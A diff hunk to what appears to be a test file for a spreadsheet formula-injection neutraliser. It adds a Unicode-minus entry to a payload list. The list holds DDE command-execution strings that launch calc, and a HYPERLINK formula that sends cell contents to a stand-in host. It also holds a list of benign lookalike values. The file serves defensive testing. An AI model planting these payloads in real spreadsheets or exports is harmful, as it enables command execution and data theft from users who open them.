@@ -11,7 +11,7 @@ from auditor.facts.cells import FACTS, neutralise
 PAYLOADS = [
     "=1+1", "=cmd|' /C calc'!A0", "+SUM(1;2)", "-SUM(A1)", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
     "=HYPERLINK(\"http://acme.example?x=\"&A1)", " =1+1", "\t=1+1", "\r=1+1", "\u200b=1+1", "\ufeff=1+1", "\u00a0=1+1",
-    "＝1+1", "＠SUM(1)", "+A1", "=IMPORTXML(A1)", "@INDIRECT(A1)", "\x01=1+1", "='http://x/[a.xls]b'!A1",
+    "＝1+1", "＠SUM(1)", "+A1", "=IMPORTXML(A1)", "@INDIRECT(A1)", "\x01=1+1", "\u2212A1", "='http://x/[a.xls]b'!A1",
 ]  # fmt: skip
 LOOKALIKES = [
     "+33 6 12 34 56 78", "+33(0)612345678", "+1-202-555-0100 ext. 5", "-5", "-3,5 %", "- rappeler lundi", "-", "--",
